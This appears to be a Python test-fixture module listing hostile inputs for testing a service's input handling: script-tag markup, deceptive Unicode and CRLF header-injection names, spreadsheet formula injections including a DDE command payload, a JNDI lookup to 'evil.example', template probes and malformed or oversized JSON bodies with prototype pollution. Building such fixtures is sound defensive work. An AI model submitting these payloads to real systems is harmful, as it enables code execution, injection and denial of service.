"""Input that is meant to do harm."""

from __future__ import annotations

MARKUP = "<img src=x onerror=alert(1)>\"'&amp;</td><script>alert(2)</script>"

# Names that look like others, or hide something.
DECEPTIVE = [
    "fdp.\u202egnp",
    "\u2066admin\u2069",
    "zero\u200bwidth",
    "\ufeffname",
    "a\u2028b",
    "a\u00adb",
    "n\x00l",
    "a\r\nBcc: eve@example.com",
]

# Texts that a spreadsheet runs.
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    '=HYPERLINK("http://evil.example";"x")',
    "=cmd|' /C calc'!A0",
]
# Texts that a file, a page, a log or a template might take apart.
QUOTES = [
    'a"b',
    'a;b,c\n"d',
    "a\r\nb",
    '";"',
    "'",
    "\u202eevil",
    MARKUP,
    '{"a": "b"}',
    "\\",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
]

# Bodies of 64 KiB at most.
BODIES = {
    "deep arrays": b"[" * 30_000 + b"]" * 30_000,
    "deep objects": b'{"filters":' * 5_000 + b"{}" + b"}" * 5_000,
    "deep in a field": b'{"cc":' + b"[" * 20_000 + b"]" * 20_000 + b"}",
    "many keys": b"{" + b",".join(b'"%d":1' % number for number in range(6_500)) + b"}",
    "one key again and again": b"{" + b",".join([b'"":1'] * 12_000) + b"}",
    "many elements": b'{"cc":[' + b",".join([b'""'] * 20_000) + b"]}",
    "a huge number": b'{"filters":{"amountMin":1' + b"0" * 60_000 + b"}}",
    "a huge exponent": b'{"filters":{"amountMin":1e999999999}}',
    "a long key": b'{"' + b"k" * 60_000 + b'":1}',
    "escapes": b'{"' + b"\\u0000" * 9_000 + b'":"' + b"\\u202e" * 1_000 + b'"}',
    "a lone surrogate": b'{"cc":["\\ud800@example.com"]}',
    "no UTF-8": b'{"cc":["\xff\xfe@example.com"]}',
    "UTF-16": '{"cc":[]}'.encode("utf-16"),
    "a byte order mark": b'\xef\xbb\xbf{"cc":["nope"]}',
    "two documents": b'{"cc":[]}{"cc":["eve@example.com"]}',
    "a prototype": b'{"__proto__":{"role":"OPERATOR"},"constructor":{"prototype":{}}}',
    "not a number": b'{"filters":{"amountMin":NaN}}',
    "a comment": b'{"cc":[]/**/}',
}
